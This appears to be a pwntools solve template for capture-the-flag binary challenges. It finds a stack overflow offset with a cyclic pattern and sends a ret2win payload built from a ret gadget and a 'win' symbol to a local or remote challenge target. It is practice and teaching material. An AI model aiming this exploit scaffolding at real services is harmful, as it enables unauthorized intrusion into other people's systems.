#!/usr/bin/env python3
"""pwntools solve template for CTF challenges. Usage:
   python3 solve_template.py LOCAL [GDB]
   python3 solve_template.py REMOTE HOST=<challenge host> PORT=<port>
"""
from pwn import *  # noqa: F403

BINARY = "./chall"
elf = context.binary = ELF(BINARY, checksec=False)
context.log_level = "info"

GDB_SCRIPT = """
break *main
continue
"""


def start():
    if args.REMOTE:
        if not args.HOST or not args.PORT:
            log.error("REMOTE needs HOST=... PORT=... from the challenge page")
        return remote(args.HOST, int(args.PORT))
    if args.GDB:
        return gdb.debug([elf.path], gdbscript=GDB_SCRIPT)
    return process([elf.path])


def find_offset():
    """Crash the local binary with a cyclic pattern and read the saved RIP offset from the core."""
    p = process([elf.path])
    p.sendline(cyclic(512))
    p.wait()
    core = p.corefile
    return cyclic_find(core.read(core.rsp, 8)) if context.bits == 64 else cyclic_find(core.eip)


def main():
    io = start()
    # ---- fill in per challenge -------------------------------------------
    offset = 72                       # from find_offset() run locally
    target = elf.symbols.get("win")   # ret2win example; replace for ROP/fmt
    ret = ROP(elf).find_gadget(["ret"])
    payload = flat({offset: [ret.address if ret else 0, target]})
    # -----------------------------------------------------------------------
    io.recvuntil(b":", timeout=3)
    io.sendline(payload)
    io.interactive()


if __name__ == "__main__":
    main()
